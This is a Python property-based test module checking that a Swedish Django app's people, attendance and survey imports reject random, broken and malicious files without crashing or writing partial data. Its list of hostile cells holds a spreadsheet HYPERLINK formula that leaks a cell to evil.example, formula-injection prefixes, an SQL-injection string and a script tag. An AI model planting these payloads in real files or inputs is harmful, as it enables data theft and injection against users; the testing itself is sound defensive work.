"""Issue 9: hostile-input property tests for the people, attendance and survey-answer imports. Random and
malicious files (random bytes, random cells, formulas, huge numbers, broken workbooks) never
raise, and a rejected file writes nothing: every table has the same rows before and after."""

from __future__ import annotations

import io
import string

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from enkater.importing import import_survey_answers
from enkater.models import Answer, Response
from kurser.importing import import_attendance
from kurser.models import Attendance, Course, Session
from ombud.importing import engine, import_people
from ombud.models import AuditLog, Person, Workplace
from ombud.personnummer import formatted, normalise
from tests.factories import PersonFactory, ProgrammeFactory, WorkplaceFactory, make_personnummer

pytestmark = pytest.mark.django_db

HYPOTHESIS = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

PEOPLE_HEADER = [
    "personnummer",
    "förnamn",
    "efternamn",
    "kön",
    "kommun",
    "arbetsplats",
    "verksamhet",
    "målgrupp",
    "e-post",
]
ATTENDANCE_HEADER = [
    "datum",
    "starttid",
    "minuter",
    "kurs",
    "verktyg",
    "nivå",
    "typ",
    "form",
    "kommun",
    "arbetsplats",
    "utbildare",
    "deltagare",
    "närvaro",
    "närvarominuter",
]
SURVEY_HEADER = [
    "personnummer",
    "enkät",
    "moment",
    "datum",
    "information",
    "kommunikation",
    "innehall",
    "sakerhet",
    "problemlosning",
    "rutin",
    "leda",
    "kompetens",
]
PEOPLE_NUMBERS = ["19780314-1121", "851102-2355", "9901094525", "19670416-1006"]

# What a hostile or careless file puts in a cell.
MALICIOUS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?"&A2,"Klicka")',
        "=1+1",
        "+46701234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=cmd",
        "\r=cmd",
        "9" * 40,
        "1e308",
        "-1",
        "0",
        "NaN",
        "99999999-9999",
        "x" * 5000,
        "Ã…sa",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "%(row)s %s {0}",
        "\\N",
        '"',
        ";;;",
    ]
)
PLAUSIBLE = st.sampled_from(
    [
        *PEOPLE_NUMBERS,
        "Anna",
        "Åsa",
        "Öberg",
        "kvinna",
        "man",
        "annat",
        "Ale",
        "1440",
        "Mölndal",
        "Hemtjänst Nödinge",
        "äldreomsorg",
        "baspersonal",
        "digitaliseringsombud",
        "anna@example.se",
        "2020-03-12",
        "10:00",
        "60",
        "Teams grund",
        "Teams",
        "grund",
        "arbetsplatsutbildning",
        "på plats",
        "närvarande",
        "delvis",
        "30",
        "",
    ]
)
# Printable text without the control characters a workbook cannot hold.
RANDOM_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from(";,\"'\n"), max_size=40
)
CELL = st.one_of(
    PLAUSIBLE, MALICIOUS, RANDOM_TEXT, st.integers(min_value=-(10**30), max_value=10**30).map(str)
)


def _tables() -> tuple[int, ...]:
    models = (Person, Workplace, Session, Attendance, Course, AuditLog, Response, Answer)
    return tuple(m.objects.count() for m in models)


def _csv(header: list[str], rows: list[list[str]], sep: str, encoding: str) -> bytes:
    def quote(cell: str) -> str:
        return '"' + cell.replace('"', '""') + '"' if any(c in cell for c in f'{sep}"\n\r') else cell

    lines = [sep.join(header)] + [sep.join(quote(c) for c in row) for row in rows]
    return "\r\n".join(lines).encode(encoding, errors="replace")


def _xlsx(header: list[str], rows: list[list[object]]) -> bytes:
    wb = Workbook()
    for row in [header, *rows]:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _upload(data: bytes, name: str) -> io.BytesIO:
    f = io.BytesIO(data)
    f.name = name
    return f


def _check(run, data: bytes, name: str) -> None:
    before = _tables()
    result = run(_upload(data, name))  # must not raise, whatever the file
    if result.errors:
        assert not result.committed
        assert _tables() == before, result.errors[:3]
    else:
        assert result.committed


@pytest.fixture
def register(ale, molndal, monkeypatch):
    # Batches of two rows: valid rows are written before a later invalid one is seen, so a
    # missing rollback would show as a partial write.
    monkeypatch.setattr(engine, "BATCH_SIZE", 2)
    WorkplaceFactory(municipality=ale, name="Hemtjänst Nödinge")
    for number in PEOPLE_NUMBERS[:2]:
        PersonFactory(personnummer=normalise(number), workplace__municipality=ale)
    return ProgrammeFactory(municipalities=[ale, molndal])


def _people(data: bytes, name: str) -> None:
    _check(import_people, data, name)


def _attendance(programme, data: bytes, name: str) -> None:
    _check(lambda f: import_attendance(f, programme=programme), data, name)


def _answers(programme, data: bytes, name: str) -> None:
    _check(lambda f: import_survey_answers(f, programme=programme), data, name)


FILES_OF_BYTES = st.tuples(st.binary(max_size=3000), st.sampled_from(["x.csv", "x.xlsx", "x.txt", "x"]))


@HYPOTHESIS
@given(file=FILES_OF_BYTES)
def test_random_bytes_never_raise_or_write(register, file):
    data, name = file
    _people(data, name)
    _attendance(register, data, name)
    _answers(register, data, name)


NAME = st.text(alphabet="abcdeåäöABCÅÄÖ -", min_size=1, max_size=12).map(str.strip).filter(bool)
VALID_PEOPLE_ROW = st.builds(
    lambda n, first, last: [
        formatted(make_personnummer(n)),
        first,
        last,
        "",
        "Ale",
        "Hemtjänst Nödinge",
        "",
        "baspersonal",
        "",
    ],
    st.integers(1, 400),
    NAME,
    NAME,
)
VALID_ATTENDANCE_ROW = st.builds(
    lambda day, who, status: [
        f"2020-03-{day:02d}",
        "10:00",
        "60",
        "Teams grund",
        "Teams",
        "grund",
        "",
        "",
        "Ale",
        "",
        "",
        who,
        status,
        "",
    ],
    st.integers(1, 28),
    st.sampled_from(PEOPLE_NUMBERS[:2]),
    st.sampled_from(["närvarande", "frånvarande"]),
)


VALID_SURVEY_ROW = st.builds(
    lambda who, moment, score: [
        who,
        "DIGKOMP",
        moment,
        "2020-03-12",
        score,
        score,
        "",
        score,
        "",
        "",
        "",
        "",
    ],
    st.sampled_from(PEOPLE_NUMBERS[:2]),
    st.sampled_from(["före", "efter"]),
    st.sampled_from(["1", "3", "5"]),
)


def _spoiled(valid: st.SearchStrategy[list[str]]) -> st.SearchStrategy[list[str]]:
    """A valid row with one cell replaced by something hostile."""
    return st.tuples(valid, st.integers(0, 20), CELL).map(
        lambda t: [c if i != t[1] % len(t[0]) else t[2] for i, c in enumerate(t[0])]
    )


def _rows(width: int, valid: st.SearchStrategy[list[str]]) -> st.SearchStrategy[list[list[str]]]:
    """Valid rows mixed with spoiled and random ones (batches of two: valid rows are written
    before a bad one arrives)."""
    row = st.one_of(valid, valid, _spoiled(valid), st.lists(CELL, min_size=0, max_size=width + 2))
    return st.lists(row, min_size=1, max_size=8)


@HYPOTHESIS
@given(
    rows=_rows(len(PEOPLE_HEADER), VALID_PEOPLE_ROW),
    sep=st.sampled_from([";", ",", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]),
)
def test_random_people_csv_never_raises_and_a_rejected_file_writes_nothing(register, rows, sep, encoding):
    _people(_csv(PEOPLE_HEADER, rows, sep, encoding), "personal.csv")


@HYPOTHESIS
@given(
    rows=_rows(len(ATTENDANCE_HEADER), VALID_ATTENDANCE_ROW),
    sep=st.sampled_from([";", ","]),
    encoding=st.sampled_from(["utf-8", "cp1252"]),
)
def test_random_attendance_csv_never_raises_and_a_rejected_file_writes_nothing(register, rows, sep, encoding):
    _attendance(register, _csv(ATTENDANCE_HEADER, rows, sep, encoding), "narvaro.csv")


@HYPOTHESIS
@given(
    rows=_rows(len(SURVEY_HEADER), VALID_SURVEY_ROW),
    sep=st.sampled_from([";", ","]),
    encoding=st.sampled_from(["utf-8", "cp1252"]),
)
def test_random_survey_answer_csv_never_raises_and_a_rejected_file_writes_nothing(
    register, rows, sep, encoding
):
    _answers(register, _csv(SURVEY_HEADER, rows, sep, encoding), "svar.csv")


XLSX_CELL = st.one_of(
    CELL.filter(lambda s: all(c in string.printable or ord(c) > 159 for c in s)),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=True, allow_infinity=False),
    st.dates(),
    st.none(),
)


@HYPOTHESIS
@given(rows=st.lists(st.lists(XLSX_CELL, max_size=16), min_size=1, max_size=6))
def test_random_workbooks_never_raise_and_a_rejected_file_writes_nothing(register, rows):
    _people(_xlsx(PEOPLE_HEADER, rows), "personal.xlsx")
    _attendance(register, _xlsx(ATTENDANCE_HEADER, rows), "narvaro.xlsx")
    _answers(register, _xlsx(SURVEY_HEADER, rows), "svar.xlsx")


@pytest.fixture(scope="module")
def good_workbook() -> bytes:
    return _xlsx(
        PEOPLE_HEADER, [["19780314-1121", "Anna", "Lind", "", "Ale", "Hemtjänst", "", "baspersonal", ""]]
    )


@HYPOTHESIS
@given(cut=st.integers(min_value=0, max_value=10_000), flips=st.lists(st.integers(0, 10_000), max_size=5))
def test_broken_workbooks_never_raise_or_write(register, good_workbook, cut, flips):
    data = bytearray(good_workbook[: max(1, cut % len(good_workbook))] if cut % 3 == 0 else good_workbook)
    for position in flips:
        data[position % len(data)] ^= 0xFF
    _people(bytes(data), "personal.xlsx")
    _attendance(register, bytes(data), "narvaro.xlsx")
    _answers(register, bytes(data), "svar.xlsx")


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(file=FILES_OF_BYTES)
def test_the_upload_page_never_answers_with_a_server_error(client_as, local_leader_ale, register, file):
    data, name = file
    before = _tables()
    response = client_as(local_leader_ale).post(reverse("ombud:person-import"), {"file": _upload(data, name)})
    assert response.status_code in (200, 400)
    assert _tables() == before  # the upload step is a preview: nothing is written
